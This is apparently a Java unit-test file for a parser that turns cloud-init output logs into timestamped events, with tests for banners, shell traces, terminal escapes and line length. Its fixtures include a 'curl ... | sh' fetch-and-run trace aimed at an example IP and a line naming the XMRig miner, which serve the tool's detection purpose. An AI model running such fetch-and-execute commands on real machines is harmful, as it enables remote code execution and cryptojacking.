package io.tallyman.source.cloudinit;

import static org.assertj.core.api.Assertions.assertThat;

import io.tallyman.event.Event;
import io.tallyman.event.EventTime;
import io.tallyman.event.GuestOutput;
import io.tallyman.event.ProcessExecuted;
import io.tallyman.source.Readings;
import io.tallyman.source.Sources;
import java.time.Instant;
import java.util.List;
import org.junit.jupiter.api.Test;

class CloudInitOutputTest {

    private static final CloudInitOutput OUTPUT = new CloudInitOutput();
    private static final String INIT =
            "Cloud-init v. 22.4.2 running 'init' at Fri, 01 May 2026 10:00:00 +0000. Up 9.54 seconds.\n";
    private static final String FINAL =
            "Cloud-init v. 22.4.2 running 'modules:final' at Fri, 01 May 2026 12:00:20 +0200. Up 29.54 seconds.\n";
    private static final String FINISHED =
            "Cloud-init v. 22.4.2 finished at Fri, 01 May 2026 10:01:00 +0000. Datasource DataSourceEc2Local.  Up 70.10 seconds\n";

    private static Readings read(String text) {
        return Readings.of(OUTPUT, text);
    }

    private static List<String> texts(Readings read) {
        return read.events().stream()
                .filter(GuestOutput.class::isInstance)
                .map(event -> ((GuestOutput) event).text())
                .toList();
    }

    private static List<String> seconds(Readings read) {
        return read.events().stream()
                .map(Event::time)
                .map(EventTime::instant)
                .map(Instant::toString)
                .toList();
    }

    @Test
    void aLineHasTheTimeOfTheLatestBannerBeforeItOrOfTheFirst() {
        var read = read("early\n" + INIT + "one\n" + FINAL + "two\n" + FINISHED + "three\n");
        assertThat(read.reasons()).isEmpty();
        assertThat(texts(read)).containsExactly("early", "one", "two", "three");
        assertThat(seconds(read))
                .containsExactly(
                        "2026-05-01T10:00:00Z", "2026-05-01T10:00:00Z", "2026-05-01T10:00:20Z", "2026-05-01T10:01:00Z");
        assertThat(read.events().get(0).origin().line()).isEqualTo(1);
        assertThat(read.events().get(0).time().precision()).isEqualTo(EventTime.SECOND);
    }

    @Test
    void aTraceOfAShellIsAnExecution() {
        var executed = read(INIT
                        + "++ curl -fsSL 'http://203.0.113.7/x?a=1&b=2' -H 'A: it'\\''s' -d $'a\\nb' -o \"c d\"\n")
                .only(ProcessExecuted.class);
        assertThat(executed.arguments())
                .containsExactly(
                        "curl", "-fsSL", "http://203.0.113.7/x?a=1&b=2", "-H", "A: it's", "-d", "a\nb", "-o", "c d");
        assertThat(executed.parent()).isEqualTo("cloud-init");
        var unquoted = read(INIT + "+ sh -c curl http://203.0.113.7/x | sh\n").only(ProcessExecuted.class);
        assertThat(unquoted.arguments()).containsExactly("sh", "-c", "curl http://203.0.113.7/x | sh");
        assertThat(unquoted.command().pipesIntoInterpreter()).isTrue();
    }

    @Test
    void aTraceThatRunsNoProgramAndAFrameThatLooksLikeOneStayText() {
        var read =
                read(INIT + "+ URL=http://203.0.113.7/x\n+ '[' -f /x ']'\n+---[RSA 3072]----+\n+\n+ \n++ export A=1\n");
        assertThat(texts(read))
                .containsExactly(
                        "+ URL=http://203.0.113.7/x",
                        "+ '[' -f /x ']'",
                        "+---[RSA 3072]----+",
                        "+",
                        "+",
                        "++ export A=1");
        assertThat(read.events()).hasSize(6);
    }

    @Test
    void whatCloudInitPrintsItselfTellsNothing() {
        var read = read(INIT + "ci-info: +++++++Net device info+++++++\n"
                + "2026-05-01 10:00:01,500 - cc_users_groups.py[WARNING]: no such user\n\n   \n" + FINISHED);
        assertThat(read.events()).isEmpty();
        assertThat(read.nothings()).isEqualTo(4);
    }

    @Test
    void aTerminalsSequencesAreTakenOutAndALinePrintedOverItselfIsItsLastState() {
        var read = read(INIT + "  0  1000    0\r 50  1000  500\r100  1000 1000\r\n"
                + "\u001b[1;32m* \u001b[0mABOUT\u001b]0;title\u0007 XMRig\u001b(B/6.21\b\u0000\n\u001b[2J\n\u001b[");
        assertThat(texts(read)).containsExactly("100  1000 1000", "* ABOUT XMRig/6.21");
    }

    @Test
    void aLineIsCutButNeverWithinACharacter() {
        assertThat(texts(read(INIT + "x".repeat(10_000)))).containsExactly("x".repeat(TerminalText.LONGEST));
        assertThat(texts(read(INIT + "x" + "😀".repeat(5_000))))
                .containsExactly("x" + "😀".repeat(TerminalText.LONGEST / 2 - 1));
    }

    @Test
    void withoutABannerNoLineHasATime() {
        var read = read("a\n".repeat(OutputParser.MOST_HELD + 5));
        assertThat(read.events()).isEmpty();
        assertThat(read.reasons())
                .hasSize(OutputParser.MOST_HELD + 5)
                .first()
                .asString()
                .contains("No banner");
    }

    @Test
    void aBannerWhoseTimeDoesNotExistIsRejected() {
        assertThat(read(INIT.replace("01 May", "31 Feb")).reasons())
                .containsExactly(
                        "The banner of cloud-init has no time; expected \"at Fri, 01 May 2026 10:00:00 +0000.\".");
    }

    @Test
    void onlyABannerAtTheBeginningOfALineMakesTheLogKnown() {
        assertThat(OUTPUT.recognises(Readings.records("Generating keys\n" + INIT)))
                .isTrue();
        assertThat(OUTPUT.recognises(Readings.records(FINISHED))).isFalse();
        assertThat(OUTPUT.recognises(Readings.records("2026-05-01 10:00:00,123 - util.py[DEBUG]: " + INIT)))
                .isFalse();
        assertThat(OUTPUT.recognises(Readings.records("we use Cloud-init v. 22\n")))
                .isFalse();
        assertThat(Sources.shipped().named("linux:cloud-init-output")).hasSize(1);
    }
}
